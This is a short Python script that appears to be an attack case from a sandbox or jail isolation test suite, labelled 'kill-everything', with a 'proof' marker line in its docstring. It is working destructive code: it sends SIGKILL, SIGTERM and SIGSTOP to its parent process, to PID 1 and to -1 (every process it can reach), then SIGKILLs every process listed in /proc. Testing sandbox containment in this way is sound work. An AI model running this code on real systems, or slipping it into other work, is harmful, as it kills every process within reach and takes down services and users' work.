"""Signals its parent, the jail's init and every process it can see.

victim: next
proof: ATTACK kill-everything: ran
"""

import os
import signal

for target in (os.getppid(), 1, -1):
    for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(target, sig)
        except OSError:
            pass
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass
print("ATTACK kill-everything: ran", flush=True)
